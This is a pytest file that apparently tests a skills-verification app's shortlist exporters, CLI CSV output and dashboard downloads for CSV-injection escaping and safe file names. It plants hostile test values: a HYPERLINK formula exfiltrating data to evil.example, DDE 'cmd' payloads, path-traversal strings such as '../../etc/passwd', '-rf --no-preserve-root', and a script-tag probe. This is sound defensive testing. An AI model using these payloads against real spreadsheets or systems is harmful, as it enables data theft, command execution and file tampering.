"""Exports: no spreadsheet cell can start a formula, and export file names are safe.

OWASP "CSV Injection": a cell starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return may be run as a formula by a spreadsheet program. Every
CSV / XLSX SkillProof writes (talent's shortlist exporters, which the
dashboard's Shortlist page downloads, and the CLI's ``--csv``) must escape
such cells. Badge content is attacker-controlled (issuer and badge names,
skill names, error messages quoting a URL), and so is an ATS export
(candidate names), so each hostile value is planted in every such field.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest

from talent.catalogue import Catalogue
from talent.coverage import compute_coverage, evidence_frame
from talent.matching import SkillMatcher
from talent.roles import load_roles_dir
from talent.shortlist import Shortlist, export_shortlist, safe_filename
from tests.conftest import ROOT
from verifier import cli
from verifier.models import AchievementInfo, IssuerInfo, Skill, VerificationResult, result_from_dict

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_VALUES = {
    "equals-formula": "=1+1",
    "hyperlink-exfiltration": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "dde-command": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at-function": "@SUM(1,2)",
    "tab-then-formula": "\t=1+1",
    "carriage-return-then-formula": "\r=1+1",
}
RESULTS = ROOT / "tests" / "talent" / "fixtures" / "results.json"
NOW = datetime(2026, 11, 28, tzinfo=UTC)


def _unsafe(cell: object) -> bool:
    return isinstance(cell, str) and cell.startswith(DANGEROUS)


def _hostile_results(value: str) -> list[tuple[str, VerificationResult]]:
    pairs = []
    for item in json.loads(RESULTS.read_text("utf-8")):
        r = result_from_dict(item["result"])
        r = replace(
            r,
            issuer=IssuerInfo(id=r.issuer.id, name=value, url=r.issuer.url),
            achievement=AchievementInfo(
                id=r.achievement.id, name=value + " " + (r.achievement.name or ""), description=value
            ),
            skills=(*r.skills, Skill(name=value)),
        )
        pairs.append((item["candidate_id"], r))
    return pairs


def _shortlist_export(value: str, fmt: str) -> tuple[str, bytes]:
    pairs = _hostile_results(value)
    catalogue = Catalogue.default()
    roles = load_roles_dir(ROOT / "sample_data" / "roles")
    report = compute_coverage(evidence_frame(pairs, SkillMatcher(catalogue)), roles, catalogue, now=NOW)
    ids = tuple(dict.fromkeys(cid for cid, _ in pairs))
    shortlist = Shortlist(name=value + " shortlist", role_id=roles[0].role_id, candidate_ids=ids, note=value)
    filename, content, _ = export_shortlist(shortlist, report, fmt, names=dict.fromkeys(ids, value))
    return filename, content


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(content: bytes) -> list[object]:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(content))
    cells: list[object] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula cell: {cell.coordinate} {cell.value!r}"
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("value", list(HOSTILE_VALUES.values()), ids=list(HOSTILE_VALUES))
def test_a_shortlist_export_escapes_every_cell_that_could_start_a_formula(value: str, fmt: str) -> None:
    _, content = _shortlist_export(value, fmt)
    cells = _csv_cells(content) if fmt == "csv" else _xlsx_cells(content)
    unsafe = [c for c in cells if _unsafe(c)]
    assert unsafe == []
    # The hostile value did reach the export (escaped), so the test is not vacuous.
    planted = value.strip("\t\r") if fmt == "xlsx" else value
    assert any(isinstance(c, str) and c.startswith("'") and planted[:3] in c for c in cells), "value not exported"


@pytest.mark.parametrize("value", list(HOSTILE_VALUES.values()), ids=list(HOSTILE_VALUES))
def test_the_cli_csv_output_escapes_every_cell_that_could_start_a_formula(value: str, tmp_path: Path) -> None:
    listing = tmp_path / "list.csv"
    with listing.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["badge", "candidate", "email"])
        w.writerow([value, value, value])
        w.writerow(["missing.json", value, "ada@example.org"])
    # a badge file whose issuer and achievement names are hostile
    badge = tmp_path / "badge.json"
    badge.write_text(
        json.dumps(
            {
                "@context": ["https://www.w3.org/ns/credentials/v2"],
                "type": ["VerifiableCredential"],
                "issuer": {"id": "https://issuer.example/", "name": value},
                "name": value,
                "credentialSubject": {"achievement": {"name": value}},
            }
        )
    )
    out = io.StringIO()
    code = cli.main(["verify", str(badge), "--input-file", str(listing), "--csv"], stdout=out)
    assert code == cli.EXIT_NOT_VERIFIED
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == list(cli.CSV_COLUMNS)
    assert len(rows) == 1 + 3
    cells = [c for row in rows for c in row]
    assert [c for c in cells if _unsafe(c)] == []
    assert any(c.startswith("'") for c in cells)


RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)), *(f"LPT{i}" for i in range(1, 10))}
HOSTILE_NAMES = {
    "parent-traversal": "../../etc/passwd",
    "windows-traversal": "..\\..\\Windows\\System32\\drivers\\etc\\hosts",
    "absolute-path": "/etc/cron.d/job",
    "slashes": "a/b\\c",
    "dots-only": "...",
    "hidden-file": ".bashrc",
    "leading-dash": "-rf --no-preserve-root",
    "nul-byte": "short\x00list",
    "control-characters": "\x1b[31mred\x07\r\n",
    "right-to-left-override": "list\u202egpj.exe",
    "reserved-con": "CON",
    "reserved-nul-lowercase": "nul",
    "reserved-com1-with-extension": "COM1.backup",
    "reserved-lpt9": "LPT9",
    "empty": "",
    "spaces": "   ",
    "fullwidth": "ｓｈｏｒｔｌｉｓｔ",
    "very-long": "x" * 10_000,
    "formula": "=HYPERLINK(1)",
}


def _assert_safe_filename(name: str, suffix: str) -> None:
    assert name.endswith(suffix)
    stem = name[: -len(suffix)] if suffix else name
    assert stem
    assert "/" not in name
    assert "\\" not in name
    assert ".." not in name
    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", name)
    assert re.fullmatch(r"[A-Za-z0-9._-]+", name), name
    assert not name.startswith((".", "-"))
    assert len(stem) <= 100
    assert stem.split(".")[0].upper() not in RESERVED, f"{name} is a reserved device name on Windows"


@pytest.mark.parametrize("name", list(HOSTILE_NAMES.values()), ids=list(HOSTILE_NAMES))
def test_an_export_file_name_is_sanitised(name: str) -> None:
    _assert_safe_filename(safe_filename(name, suffix=".csv"), ".csv")


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "CON", "a\x00b", "=1+1"], ids=["traversal", "con", "nul", "formula"]
)
def test_the_shortlist_exporter_names_its_file_safely(name: str) -> None:
    pairs = _hostile_results("plain")
    catalogue = Catalogue.default()
    roles = load_roles_dir(ROOT / "sample_data" / "roles")
    report = compute_coverage(evidence_frame(pairs, SkillMatcher(catalogue)), roles, catalogue, now=NOW)
    ids = tuple(dict.fromkeys(cid for cid, _ in pairs))
    shortlist = Shortlist(name=name, role_id=roles[0].role_id, candidate_ids=ids)
    for fmt in ("csv", "xlsx", "json"):
        filename, _, _ = export_shortlist(shortlist, report, fmt)
        _assert_safe_filename(filename, f".{fmt}")


# -- the dashboard's download helpers (what the Shortlist and Roles pages hand to st.download_button) --------


@pytest.fixture
def sample_workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SKILLPROOF_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("SKILLPROOF_OFFLINE", "1")
    from ui.sample import load_sample
    from ui.workspace import workspace

    load_sample(workspace())
    return tmp_path


DASHBOARD_NAMES = {
    "formula": '=HYPERLINK("http://evil.example","x")',
    "traversal": "../../home/user/.bashrc",
    "script": "<script>alert(1)</script>",
    "reserved": "CON",
}


@pytest.mark.slow
@pytest.mark.parametrize("name", list(DASHBOARD_NAMES.values()), ids=list(DASHBOARD_NAMES))
def test_the_dashboard_downloads_are_escaped_and_safely_named(name: str, sample_workspace: Path) -> None:
    from ui.coverage import coverage_view
    from ui.report import html_report, shortlist_export

    view = coverage_view("data-analyst")
    picked = tuple(view.ranked["candidate_id"].head(3))
    for fmt in ("csv", "xlsx", "json"):
        export = shortlist_export(name, "data-analyst", picked, fmt)
        _assert_safe_filename(export.filename, f".{fmt}")
        if fmt == "csv":
            assert [c for c in _csv_cells(export.content) if _unsafe(c)] == []
        elif fmt == "xlsx":
            assert [c for c in _xlsx_cells(export.content) if _unsafe(c)] == []
    report = html_report(name, "data-analyst", picked)
    _assert_safe_filename(report.filename, ".html")
    assert "<script>alert(1)</script>" not in report.content.decode("utf-8")


HOSTILE_ROLE_IDS = ["../../etc/cron.d/x", "a/b", "a\\b", ".hidden", "-rf", "x" * 101, "a\x00b", "CON"]


@pytest.mark.parametrize("role_id", HOSTILE_ROLE_IDS)
def test_a_role_id_used_as_a_download_name_is_refused_or_safe(role_id: str) -> None:
    from talent.errors import RoleError
    from talent.roles import role_from_dict

    try:
        role = role_from_dict({"id": role_id, "name": "R", "requirements": [{"skill": "SQL"}]})
    except RoleError:
        return
    _assert_safe_filename(f"{role.role_id}.yaml", ".yaml")  # the Roles page's file_name
